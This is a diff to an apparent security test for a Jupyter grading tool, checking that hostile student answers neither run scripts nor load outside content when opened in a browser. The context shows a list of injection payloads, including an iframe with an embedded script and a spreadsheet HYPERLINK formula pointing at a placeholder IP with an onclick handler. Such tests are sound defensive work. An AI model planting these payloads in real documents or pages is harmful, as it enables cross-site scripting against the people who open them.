@@ -47,6 +47,7 @@ PAYLOADS = [
     "]]><iframe srcdoc='<script>parent.ran(15)</script>'>",
     '=HYPERLINK("http://192.0.2.1/"&A1;"<b onclick=ran(16)>")',
 ]
+FILES = (".ipynb", ".html")  # answers that a browser saves, where they are not shown
 IDS = [f"s{number:02}" for number in range(len(PAYLOADS))]
 
 
@@ -254,10 +255,12 @@ def test_no_link_of_an_answer_leads_where_it_acts(opened, hostile, tmp_path):
     with chromium.started() as browser:
         seen = Watched(browser, base, session)
         for address in addresses:
-            with contextlib.suppress(playwright.Error) if "/files/" in address else contextlib.nullcontext():
+            with contextlib.suppress(playwright.Error) if address.endswith(FILES) else contextlib.nullcontext():
                 seen.page.goto(base + address)  # a file of another kind is saved, and then no page comes
             seen.page.wait_for_timeout(20)
-    assert [text for text in seen.ran if "Failed to load resource" not in text] == []
+    # Of the scripts in Jupyter's own pages, none of which runs here.
+    said = ("Content Security Policy", "violates", "Blocked script execution", "Failed to load resource")
+    assert [text for text in seen.ran if not any(word in text for word in said)] == []
     answer = session.get(f"{base}/formgrader", params={"path": str(folder)})
     assert answer.status_code == 404 and not (tmp_path / "loaded").exists()
     listed = session.get(f"{base}/formgrader/api/students")
